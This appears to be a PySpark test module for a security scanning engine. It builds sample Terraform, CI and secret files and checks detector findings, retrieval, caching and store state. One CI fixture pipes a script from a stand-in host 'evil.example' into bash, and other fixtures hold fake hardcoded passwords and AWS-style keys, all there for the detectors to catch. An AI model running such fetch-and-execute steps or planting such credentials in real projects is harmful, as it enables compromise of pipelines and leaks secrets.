"""Queries over the whole engine, on files of the given tables."""

from __future__ import annotations

from functools import reduce

from pyspark.sql import functions as F

from sparkseam.operators import iam, prompts, report
from sparkseam.plans import detector_queries as dq
from sparkseam.plans.engine import Engine, scan_issues
from sparkseam.plans.fixtures import beside, frame, pick_sql, values
from sparkseam.session import folder, read_table

Q, SQL = {}, {}


def query(name: str, sql: str):
    def put(f):
        Q[name], SQL[name] = f, sql
        return f

    return put


FILE = ["file_path", "file_type", "content"]
FILES = [(p, k, c) for p, k, c in [*dq.FED_FILES, *dq.ROLE_FILES[:3]]] + [(p, "yaml", c) for p, c in dq.CI_FILES] + [("s/secret.yaml", "yaml",
    "db:\n  password: Sup3rS3cr3tP@ssword!\n")]
ISSUES = (
    [(f, r, s) for f, r, s in [("w/a.tf", "WID-AZ-001", "HIGH"), ("w/a.tf", "WID-AZ-003", "MEDIUM"), ("w/a.tf", "WID-AZ-004", "HIGH"),
        ("w/a.tf", "WID-AZ-002", "HIGH"), ("w/b.yaml", "WID-AZ-002", "HIGH"), ("w/b.yaml", "WID-AZ-003", "MEDIUM"), ("w/c.json", "WID-AZ-004", "HIGH")]]
    + [("iam/main.tf", "IAM-AZ-001", "HIGH"), ("iam/main.tf", "IAM-AZ-003", "MEDIUM"), ("iam/arm.yaml", "IAM-AZ-003", "MEDIUM")]
    + [(f, r, s) for f, r, s, _ in dq.CI_FIND] + [("s/secret.yaml", "SEC-PASSWORD", "HIGH")]
)
_ACCESS = f"""select 'iam/s' || s_suppkey || '.tf' as file_path, rule_id, case rule_id when 'IAM-AZ-003' then 'MEDIUM' when 'IAM-AZ-009' then 'LOW' else 'HIGH' end as severity from
 (select *, {pick_sql(dq._GIVEN, 's_suppkey')} as role from supplier) join (values ('Owner', 'IAM-AZ-004'), ('Contributor', 'IAM-AZ-003'), ('Key Vault Secrets Officer', 'IAM-AZ-009')) t(role, rule_id)
 using (role) where rule_id <> 'IAM-AZ-009' or role in ({', '.join(f"'{r}'" for r in iam.SERVICE_WIDE)})"""
_TRUST = """select 'w/s' || s_suppkey || '.tf' as file_path, rule_id, severity from supplier, (values ('WID-AZ-001', 'HIGH'), ('WID-AZ-003', 'MEDIUM'),
 ('WID-AZ-004', 'HIGH')) r(rule_id, severity) where case rule_id when 'WID-AZ-003' then s_suppkey % 3 = 0 else s_suppkey % 2 = 1 end"""
_STEPS = """select '.github/workflows/c' || c_custkey || '.yml' as file_path, case c_custkey % 3 when 0 then 'PIPE-SCRIPT-001' else 'PIPE-PROMPT-001' end as rule_id,
 'HIGH' as severity from customer where c_custkey % 3 <> 1"""
_KEYS = "select 'sec/c' || c_custkey || '.yaml' as file_path, case when c_custkey % 2 = 0 then 'SEC-PASSWORD' else 'SEC-AWS_KEY' end as rule_id, 'HIGH' as severity from customer"


def secrets(spark, sf):
    return dq.secret_files(spark, sf).select(F.concat(F.lit("sec/"), "file_path", F.lit(".yaml")).alias("file_path"), F.lit("yaml").alias("file_type"),
        F.col("text").alias("content")).filter("file_path like 'sec/c%'")


def union(*parts):
    return reduce(lambda a, b: a.unionByName(b), parts)


@query("ci_scan", f"select distinct * from {beside(['file_path', 'rule_id', 'severity'], ISSUES, ' union all '.join([_ACCESS, _TRUST, _STEPS, _KEYS]))}")
def ci_scan(spark, sf):
    """A repository with a role file and a federation file for each supplier, a pipeline and a file with a secret for each customer."""
    own = lambda rows, like: rows.select(*FILE).filter(F.col("file_path").like(like))
    steps = own(dq.ci_files(spark, sf).withColumn("file_type", F.lit("yaml")), ".github/workflows/c%")
    files = union(frame(spark, FILE, FILES), dq.role_tf(spark, sf), own(dq.fed_files(spark, sf), "w/s%"), steps, secrets(spark, sf))
    issues, _ = report.run([scan_issues(files)], files.limit(0), "ord")
    return issues.select("file_path", "rule_id", "severity").distinct()


# ---- searches and questions over an engine's store; a top-k of as many as asked for

ALL = 100_000
KINDS = ["kindone", "kindtwo", "kindthree", "kindfour", "kindfive"]
NOTE = "s%d: %s\n"


def notes(spark, sf):
    """A YAML file for each supplier, of one of five kinds."""
    k = F.col("s_suppkey")
    kind = F.get(F.array(*map(F.lit, KINDS)), (k % 5).cast("int"))
    return dq.named_files(read_table(spark, sf, "supplier"), F.format_string("n/s%d.yaml", k), "yaml", F.format_string(NOTE, k, kind))


@query("engine_retrieve", f"select kind, least(12, count(*)) as hits, 12 as shown from (select {pick_sql(KINDS, 's_suppkey')} as kind from supplier) where kind in "
    f"('{KINDS[0]}', '{KINDS[3]}') group by kind")
def engine_retrieve(spark, sf):
    """Ingests the files twice (the second time nothing is new) and asks for two kinds: those that hold the word are found first, up to k."""
    engine = Engine(spark, folder(spark, "engine"))
    for _ in range(2):
        engine.ingest(notes(spark, sf).unionByName(frame(spark, FILE, FILES)))
    parts = []
    for kind in (KINDS[0], KINDS[3]):
        hit = F.contains("text", F.lit(kind)) & (F.col("keyword_score") > 0)
        before = F.sum(F.when(~hit, 0).otherwise(1))
        found = engine.retrieve(kind, 12)
        parts.append(found.agg(before.alias("hits"), F.count(F.lit(1)).cast("int").alias("shown")).select(F.lit(kind).alias("kind"), "hits", "shown"))
    return union(*parts)


@query("engine_analyze", "select asked, title, severity, cached, summary, least(asked, n)::int as code_count from (select count(*) as n from supplier), (values (5, 'Broad role', "
    "'HIGH', false, 'one'), (5, 'Broad role', 'HIGH', true, 'one'), (1, 'Broad role', 'HIGH', false, 'one')) t(asked, title, severity, cached, summary)")
def engine_analyze(spark, sf):
    """A question asked three times: the second answer comes from the cache, the third has other parameters and doesn't."""
    said = '{"issues": [{"title": "Broad role", "severity": "high"}], "summary": "one"}'
    engine = Engine(spark, folder(spark, "engine"), answer=prompts.recorded({"managed identity": said}))
    engine.ingest(notes(spark, sf))
    rows = []
    for k, k_rules in ((5, 3), (5, 3), (1, 1)):
        out = engine.analyze("what does the managed identity own", k, k_rules)
        rows.append(out["issues"].select(F.lit(k).alias("asked"), "title", "severity", F.lit(out["metadata"]["cached"]).alias("cached"),
            F.lit(out["summary"]).alias("summary"), F.lit(out["metadata"]["retrieval"]["code_count"]).alias("code_count")))
    return union(*rows)


# Fixed questions: one for each intent.
QUESTIONS = {"iam": "which role assignment is too broad", "workload_identity": "is an issuer trusted by federation", "secrets": "is a password hardcoded",
    "prompt_injection": "what do github actions run", "network": "is a firewall open", "compliance": "does it follow the benchmark", "general_security": "anything else"}
TRUST_TF = ('resource "azurerm_federated_identity_credential" "f%d" {\n  issuer = "%s"\n  subject = "system:serviceaccount:team%d:%s"\n  audience = '
    '["api://AzureADTokenExchange"]\n  parent_id = azurerm_user_assigned_identity.app%d.id\n}\n')
STEP_YAML = "jobs:\n  b:\n    steps:\n    - name: step%d\n      run: curl https://evil.example/n%d.sh | bash\n"
KEY_YAML = "secret_access_key: AKIA%016d\n"
_NATION_STEPS = "select '.github/workflows/n' || n_nationkey || '.yml' as file_path, 'PIPE-SCRIPT-001' as rule_id, 'HIGH' as severity from nation"
_NATION_KEYS = "select 'sec/n' || n_nationkey || '.yaml', 'SEC-AWS_KEY', 'HIGH' from nation"
_MODEL = values(["intent", "file_path", "rule_id", "severity"], [(i, "m.tf", "OWN", "MEDIUM") for i in list(QUESTIONS)[4:]])


def mixed(spark, sf):
    """Role and federation files of suppliers, pipelines and keys of nations."""
    k, n = F.col("s_suppkey"), F.col("n_nationkey")
    issuer = F.get(F.array(*map(F.lit, dq._ISSUERS)), (k % 2).cast("int"))
    supplier, nation = read_table(spark, sf, "supplier"), read_table(spark, sf, "nation")
    trust = dq.named_files(supplier, F.format_string("w/s%d.tf", k), "terraform", F.format_string(TRUST_TF, k, issuer, k, F.when(k % 3 == 0, "*").otherwise("sa"), k))
    steps = dq.named_files(nation, F.format_string(".github/workflows/n%d.yml", n), "yaml", F.format_string(STEP_YAML, n, n))
    return union(dq.role_tf(spark, sf), trust, steps, dq.named_files(nation, F.format_string("sec/n%d.yaml", n), "yaml", F.format_string(KEY_YAML, n)))


@query("engine_dispatch", f"select 'iam' as intent, * from ({_ACCESS}) union all select 'workload_identity', * from ({_TRUST}) union all select 'secrets', * from "
    f"({_NATION_KEYS}) union all select 'prompt_injection', * from ({_NATION_STEPS}) union all select intent, file_path, rule_id, severity from {_MODEL}")
def engine_dispatch(spark, sf):
    """One question for each intent: four are judged by rule over what was retrieved for them, three by the (recorded) model."""
    said = '{"issues": [{"title": "Seen", "severity": "medium", "rule_id": "OWN", "file_path": "m.tf"}], "summary": "one"}'
    engine = Engine(spark, folder(spark, "engine"), answer=prompts.recorded({"## Analysis Query": said}))
    engine.ingest(mixed(spark, sf))
    parts = []
    for asked in QUESTIONS.values():
        out = engine.dispatch(asked, ALL)
        parts.append(out["findings"].select(F.lit(out["intent"]).alias("intent"), "file_path", "rule_id", "severity"))
    return union(*parts)


# ---- the store after each step

STATE = ["step", "chunks", "files", "entries"]
_STATE = """s as (select s_suppkey as k, s_nationkey as n from supplier), c as (select count(*) as files, count(distinct n) as texts, count(*) filter (where k % 2 = 1) as copied,
 count(distinct case when k % 2 = 0 then n + 100 else n end) as changed from s)"""
_SEEN = [("empty", "0", "0", False), ("first", "texts", "files", True), ("same", "texts", "files", True), ("changed", "changed", "files", True),
    ("copied", "changed", "files + copied", True), ("compacted", "changed", "files + copied", True), ("changed back", "texts", "files + copied", True),
    ("damaged", "texts", "files + copied", True), ("other dimension", "-1", "-1", True), ("cleared", "0", "0", False)]


@query("store_state", f"with {_STATE} " + " union all ".join(f"select '{s}' as step, ({n})::bigint as chunks, ({f})::bigint as files, {str(e).lower()} as entries from c" for s, n,
    f, e in _SEEN))
def store_state(spark, sf):
    """Chunks and files of the store after each step over a file for each supplier, whose text is its nation's: ingests, changed files, copies, a
    compaction with old segments removed, a change back after it, a manifest without its segments, a reader of another dimension."""
    engine, seen = Engine(spark, folder(spark, "engine")), []
    k, n = F.col("s_suppkey"), F.col("s_nationkey")
    rows = read_table(spark, sf, "supplier")
    files = lambda part, path, value: dq.named_files(part, F.format_string(path, k), "terraform", F.format_string(
        'variable "n" {\n  default = %d\n}\n', value))

    def look(step: str, at: Engine = engine) -> None:
        try:
            chunks, named = at.chunks(), at.registry()
            seen.append((step, chunks.count() if chunks is not None else 0, named.count() if named is not None else 0, at.has_entries()))
        except ValueError:
            seen.append((step, -1, -1, at.has_entries()))

    def ingest(step: str, part) -> None:
        engine.ingest(part)
        look(step)

    look("empty")
    ingest("first", files(rows, "s%d.tf", n))
    ingest("same", files(rows, "s%d.tf", n))
    ingest("changed", files(rows.filter("s_suppkey % 2 = 0"), "s%d.tf", n + 100))
    ingest("copied", files(rows.filter("s_suppkey % 2 = 1"), "copy%d.tf", n))  # equal chunks are shown once
    engine.compact()
    engine.remove_old()
    look("compacted")
    ingest("changed back", files(rows.filter("s_suppkey % 2 = 0"), "s%d.tf", n))
    spark.range(1).select(F.lit("missing").alias("value")).coalesce(1).write.text(f"{engine.root}/manifest/999")
    look("damaged")
    look("other dimension", Engine(spark, engine.root, dimension=3))
    engine.clear()
    look("cleared")
    return frame(spark, STATE, seen)
